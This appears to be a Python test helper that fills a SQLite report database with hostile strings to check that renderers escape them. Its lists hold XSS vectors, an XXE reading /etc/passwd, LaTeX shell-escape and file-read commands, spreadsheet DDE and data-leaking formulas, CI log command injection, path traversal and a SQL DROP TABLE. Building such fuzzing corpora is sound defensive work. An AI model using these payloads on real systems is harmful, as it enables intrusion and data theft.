"""Texts that mean something to a reader of a report: a browser, a spreadsheet, a CI's log, a terminal, LaTeX, a parser.

A script calls `owned()`, which the tests in a browser define.
"""

import itertools
import json
import shutil
import sqlite3

MARKUP = [
    "<script>owned()</script>",
    "</script><script>owned()</script>",
    "</SCRIPT ><ScRiPt>owned()</sCrIpT >",
    "</script\n><script\n>owned()</script>",
    "<!--<script>",
    "<!--><script>owned()</script>",
    "--><script>owned()</script><!--",
    "--!><script>owned()</script>",
    "]]><script>owned()</script>",
    "<![CDATA[<script>owned()</script>]]>",
    "<?xml version='1.0'?><?php owned() ?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "&lol; &#0; &#x1; &#xD800; &bogus; &lt;b&gt; &amp;amp;",
    "\"'><img src=x onerror=owned()>",
    "<img src=x onerror=owned()//",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=owned()>",
    '" onmouseover="owned()" autofocus onfocus="owned()" x="',
    "' onmouseover='owned()' style='position:fixed;inset:0' x='",
    "` onmouseover=owned() `",
    "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:owned()'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=owned()&gt;'>",
    "<math href='javascript:owned()'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "</noscript><img src=x onerror=owned()>",
    "</title><script>owned()</script>",
    "</textarea></select></template><script>owned()</script>",
    "<template><script>owned()</script></template>",
    "</td></tr></tbody></table><img src=x onerror=owned()>",
    "</details></summary></main></body></html><script>owned()</script>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<iframe src='javascript:parent.owned()'></iframe>",
    "<object data='javascript:owned()'></object><embed src='javascript:owned()'>",
    "<form action='javascript:owned()'><button autofocus>x</button><input type=image src=x onerror=owned()></form>",
    "<base href='http://e.example/'><link rel=stylesheet href=//e.example/a.css>",
    "<meta http-equiv=refresh content='0;url=javascript:owned()'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<video><source onerror=owned()></video><audio src=x onerror=owned()>",
    "<details open ontoggle=owned()>",
    "<body onload=owned()><marquee onstart=owned()>",
    "<x id=app class=panel hidden contenteditable onblur=owned()>",
    "<style>@import '//e.example/a.css'; *{background:url(//e.example/x)}</style>",
    "</style><script>owned()</script>",
    "red;background:url(javascript:owned());x:expression(owned())",
    "}*{display:none}@import url(//e.example/a.css);{",
    "<p style='animation:x' onanimationstart=owned()>",
    "<form name=Seamark><input name=theme></form><a id=Seamark></a>",
]
SCRIPT = [
    "javascript:owned()",
    " \x01javascript:owned()",
    "java\tscript:owned()",
    "JaVaScRiPt:owned()//",
    "data:text/html,<script>owned()</script>",
    "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+",
    "vbscript:owned()",
    '";owned();//',
    "';owned();//",
    "`;${owned()}//",
    '\\";owned();//',
    "\\';owned();//",
    "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
    "*/owned()/*",
    "\u2028owned()\u2029",
    '"}];owned();[{"x":"',
    '{"__proto__": {"hidden": true}}',
    "__proto__",
    "constructor.prototype",
    "#?verdict=fail&q=<img src=x onerror=owned()>",
    "%3Cscript%3Eowned()%3C/script%3E",
    "\uff1cscript\uff1eowned()\uff1c/script\uff1e",
    "+ADw-script+AD4-owned()+ADw-/script+AD4-",
    "{{constructor.constructor('owned()')()}} ${{ github.token }} {0} %s %n {{7*7}}",
    "datum.x + toNumber('=1')'); owned(); ('",
]
MARKDOWN = [
    "[a](javascript:owned()) ![b](http://e.example/c) <http://e.example>",
    "![x](x\"onerror=\"owned())",
    "[x]: javascript:owned()\n[x]",
    "<javascript:owned()>",
    "[a](<javascript:owned()> 'x')",
    "| a | b |\n|---|---|\n| c | d |",
    "\n\n# head\n\n```\n<script>owned()</script>\n```\n",
    "`</code><script>owned()</script>`",
    "```\n~~~\n<details>\n",
    "a\n===\n- [ ] x\n> y\n1. z",
    "@everyone #1 closes #2 GH-3 e/f#4 !5",
    "https://e.example/x www.e.example mailto:a@e.example",
    "$\\href{javascript:owned()}{x}$ $$\\unicode{<img src=x onerror=owned()>}$$",
    "\\[x\\] \\<b\\> &#91;x&#93;(javascript&#58;owned())",
]  # fmt: skip
LATEX = [
    "\\input{/etc/passwd}",
    "\\immediate\\write18{touch owned}",
    "\\include{x}\\openin5=/etc/passwd\\read5 to\\x",
    "\\def\\x{\\x}\\x",
    "\\catcode`\\|=0 |input x",
    "^^5cinput{/etc/passwd}",
    "}\\end{longtable}\\end{document}%",
    "$a_b^c$ & # % ~ {} \\\\ \\verb|x|",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://e.example/?"&A1,"x")',
    "=IMPORTXML(CONCAT(\"http://e.example/\",A1),\"//a\")",
    "+1+cmd",
    "-2+3+cmd",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x1b[0m=1+1",
    '"=1+1",\n=2',
    'x",=1+1,"\r\n=2,y',
    ";=1+1;x",
    "\uff1d1+1",
]  # fmt: skip
LOG_COMMANDS = [
    "::error file=a,line=1::owned",
    "x\n::set-output name=a::b\n \t::add-mask::c",
    "\r\n::stop-commands::x",
    "\r::warning::x",
    "x\n\xa0::error::x\n\u2003::error::y\n\u3000::error::z",
    "x\n\u200b::error::x\n\ufeff::error::y\n\u2060::error::z",
    "x\x0b::error::x\x0c::error::y\x1c::error::z",
    "x\u0085::error::x\u2028::error::y\u2029::error::z",
    "##[error]x\n##[group]y",
    "x ##vso[task.setvariable variable=PATH]y",
    "##vso[task.complete result=Succeeded;]",
    "##teamcity[buildStatus status='SUCCESS']",
    "#\x1b[0m#[error]x :\x01:error::x ##\u202evso[task.complete]",
    "section_start:1:x[collapsed=true]\r\x1b[0Kx",
    "\x1b]1337;File=inline=1:eA==\x07",
]
CHARACTERS = [
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://e.example\x1b\\link",
    "\x1b[2J\x1b[1;1H\x1b[?1049h\x1bc\x1b(0 \x1bP+q\x1b\\ \x1b_G\x1b\\",
    "\x9b31m \x90x\x9c \x9d0;x\x9c",
    "x\x1b[\x1b[31m31m \x1b",
    "\u202eevil\u202c \u2066a\u2069 \u200f \u061c",
    "\u2067\u202d\u202b" * 30,
    "\ufffe \uffff \ufeff \U0001fffe \U0010ffff",
    "\x00",
    "a\x00b\x00",
    "\x01\x08\x7f \u2028\u2029",
    "a\nb\rc\r\nd\x0be\x0cf\x85g\u2028h\u2029i",
    "\ud800 a \udfff \udc80",
    "\ud800",
    "\udbff\udbff",
    "a" * 5000,
    "\u0301" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u05e9\u0644\u4e2d" * 40,
    "\n" * 300,
    "(" * 3000,
    "\\" * 3001,
    '"' * 3001,
    "\u180e\u00ad\u034f\u2062\ufff9x\ufffa\ufffb",
]
DATA = [
    '","x":"y',
    '"}\n{"outcome":"pass"}',
    "\\",
    '\\"',
    "\\u0000 \\ud800",
    'a"b"c,"d""e',
    "null",
    "NaN",
    "1e999",
    "true",
    "</failure></testcase><testcase name='x'/>",
    "<system-out>&#10;</system-out>",
    "%s%n%x {} {0!r} {:>999999999}",
    "../../../etc/passwd",
    "'; DROP TABLE attempts; --",
]
TEXTS = MARKUP + SCRIPT + MARKDOWN + LATEX + FORMULAS + LOG_COMMANDS + CHARACTERS + DATA
# The texts that say something, and decide nothing.
FIELDS = {
    "functions": ["name"],
    "cases": ["name", "dtype", "shape", "suite"],
    "runs": ["command", "state_reason", "subset_note", "full_command"],
    "run_targets": ["device_name", "framework_version", "reason", "remedy"],
    "attempts": ["fail_type", "fail_message", "fail_traceback", "failing_call", "capture", "reason", "cold_reason",
                 "warm_reason"],
    "operations": ["name", "cold_reason", "warm_reason"],
    "declared_tables": ["package", "package_version", "source", "note"],
    "declared_functions": ["note"],
    "catalogue_functions": ["deprecated", "signature", "signature_reason", "note"],
    "usage_names": ["name"],
    "samples": ["procedure"],
}  # fmt: skip
UNIQUE = ("functions.name", "cases.name", "usage_names.name")
# Documents, of which every text but a key is hostile; as they have to be JSON, without lone surrogates.
DOCUMENTS = {"runs": ["host", "versions"], "environments": ["lock"], "attempts": ["compiled"]}


def stored(text):
    """The bytes of a TEXT that SQLite keeps: lone surrogates as well."""
    return text.encode("utf-8", "surrogatepass")


def with_texts(value, texts):
    """The same document, with the next of `texts` for each of its own."""
    if isinstance(value, dict):
        return {key: with_texts(one, texts) for key, one in value.items()}
    if isinstance(value, list):
        return [with_texts(one, texts) for one in value]
    return next(texts) if isinstance(value, str) else value


def hostile_copy(store, path, first):
    """A copy in which the fields take turns with TEXTS, from number `first` on. As many copies as there are texts have
    all of them in all fields."""
    shutil.copy(store, path)
    texts = itertools.islice(itertools.cycle(TEXTS), first, None)
    whole = (one for one in texts if stored(one).decode("utf-8", "ignore") == one)
    numbers = itertools.count()

    def text(name):
        one = next(texts)
        if name == "functions.name":
            one = one.replace("/", "|")  # `show` takes a name with a slash for that of a case
        return stored(one + " %d" % next(numbers) if name in UNIQUE else one)

    def document(old):
        return stored(json.dumps(with_texts(json.loads(old), whole)))

    with sqlite3.connect(path) as database:
        database.create_function("text", 1, text)
        database.create_function("document", 1, document)
        for table, fields in FIELDS.items():
            for field in fields:
                change = "UPDATE {0} SET {1} = CAST(text('{0}.{1}') AS TEXT)"
                database.execute(change.format(table, field))
        for table, fields in DOCUMENTS.items():
            for field in fields:
                change = "UPDATE {0} SET {1} = CAST(document({1}) AS TEXT) WHERE {1} IS NOT NULL"
                database.execute(change.format(table, field))
    database.close()
    return path
